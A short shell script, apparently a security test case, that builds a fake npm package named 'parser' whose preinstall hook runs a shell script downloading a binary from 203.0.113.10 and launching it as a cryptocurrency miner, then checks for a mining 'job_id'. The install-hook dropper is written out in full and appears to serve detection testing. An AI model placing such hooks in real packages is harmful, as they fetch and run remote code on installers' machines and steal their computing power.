#!/bin/sh
. /opt/case/case.sh

mkdir -p /srv/app/node_modules/parser && cd /srv/app/node_modules/parser
echo '{"name":"parser","version":"0.7.29","scripts":{"preinstall":"node preinstall.js"}}' >package.json
cat >preinstall.js <<'END'
const { exec } = require("child_process");
if (process.platform === "linux") exec("/bin/bash preinstall.sh", (e, o) => process.stdout.write(o));
END
cat >preinstall.sh <<'END'
if [ -z "$(pgrep jsextension)" ]; then
    curl -s http://203.0.113.10/programs/miner -o jsextension
    chmod +x jsextension
    ./jsextension -k --tls --rig-id q -o 203.0.113.10:3333 -u bait --cpu-max-threads-hint=50 --donate-level=1
fi
END
node -e 'const p = require("./package.json"); require("child_process").execSync(p.scripts.preinstall, { stdio: "inherit" })' | grep -q job_id
took_place
